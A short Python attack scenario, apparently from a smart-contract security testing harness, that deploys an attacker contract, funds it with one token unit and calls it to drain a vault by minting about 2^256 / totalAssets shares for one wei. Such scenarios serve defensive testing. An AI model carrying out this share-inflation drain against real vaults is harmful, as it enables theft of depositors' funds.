"""Mint ~2^256 / totalAssets shares for at most one wei, redeem nearly all of the vault."""

from __future__ import annotations

from bulwark.domain import TxHash
from bulwark.scenarios.attack import ScenarioContext

WORKING_CAPITAL = 10**18  # one USD covers the (wrapped) mint price


async def attack(ctx: ScenarioContext) -> list[TxHash]:
    me = ctx.attacker
    minter, deployed = await ctx.deploy(me, ctx.scenario.attacker)
    funded = await ctx.send(me, ctx.address("usd"), ctx.abi("usd"), "transfer", minter, WORKING_CAPITAL)
    abi = ctx.artifact(ctx.scenario.attacker).abi
    drained = await ctx.send(me, minter, abi, "run", ctx.address("vault"))
    return [deployed, funded, drained]
